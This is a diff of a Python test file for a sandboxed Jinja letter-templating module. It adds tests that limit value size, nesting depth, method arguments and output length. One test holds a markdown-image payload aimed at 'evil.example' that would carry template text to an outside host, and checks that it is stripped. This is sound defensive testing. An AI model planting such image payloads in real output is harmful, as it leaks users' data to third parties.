@@ -8,10 +8,12 @@ import tracemalloc
 from collections.abc import Mapping
 
 import pytest
+from jinja2.exceptions import SecurityError
 
 from vault_advise.adapters import resources
 from vault_advise.core.advise import Practice
 from vault_advise.core.errors import SetupError
+from vault_advise.core.letters import sandbox
 from vault_advise.core.letters.templates import Letters
 
 from ...support import PATH, advised, front, interviewed, practice
@@ -169,7 +171,9 @@ def test_a_copy_of_each_packaged_template_words_the_same() -> None:
     """Nothing that our own templates need is kept from those who begin with a copy."""
     usual = practice()
     sources = resources.template_sources("en")
-    copied = Letters(sources, resources.words("en"), own=set(sources))
+    copied = Letters(
+        sources, resources.words("en"), own=set(sources), frames=lambda: resources.frames("en")
+    )
     by = Practice(usual.config, usual.etiquette, usual.names.vocabulary, copied)
     panel = {f"Person {n}": "" for n in range(40)}
     for more in (
@@ -198,3 +202,36 @@ def test_an_included_template_is_held_to_the_same() -> None:
 
 def test_what_it_writes_is_made_harmless() -> None:
     assert "![" not in own("![](https://evil.example/{{ text }})")
+
+
+# --- each of its guards alone ---------------------------------------------------------------------
+
+
+def test_one_value_is_no_larger_than_a_letter_could_be() -> None:
+    budget = sandbox.Budget({})
+    assert budget.weighed("x" * 1000)
+    with pytest.raises(SecurityError, match="grows too large"):
+        budget.weighed("x" * sandbox.MAX_VALUE)
+    assert budget.left > 0
+
+
+def test_lists_are_followed_to_a_certain_depth() -> None:
+    deep: object = "x"
+    for _ in range(sandbox.MAX_NESTED):
+        deep = [deep]
+    assert sandbox.Budget({}).weighed(deep) is deep
+    with pytest.raises(SecurityError, match="nested too deep"):
+        sandbox.Budget({}).weighed([[deep]])
+
+
+def test_a_method_is_given_no_more_text_than_a_letter_has() -> None:
+    assert own("{{ text.count('or' ~ text[:0]) }}") == "1"
+    with pytest.raises(SetupError, match="given more text than a letter has"):
+        own("{{ text.count('x' * 501) }}")
+
+
+def test_what_it_writes_is_bounded_while_it_writes() -> None:
+    half = "x" * (sandbox.MAX_VALUE // 2)
+    assert sandbox._joined(iter([half, half])) == half * 2
+    with pytest.raises(SecurityError, match="writes more than"):
+        sandbox._joined(iter([half, half, "x"]))
